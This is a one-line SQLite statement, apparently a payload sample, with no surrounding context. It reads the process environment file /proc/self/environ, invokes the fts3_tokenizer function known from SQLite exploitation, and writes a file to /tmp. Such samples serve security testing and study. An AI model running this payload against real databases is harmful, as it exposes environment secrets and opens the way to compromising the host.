SELECT readfile('/proc/self/environ'), fts3_tokenizer('simple'), writefile('/tmp/x', x'00');
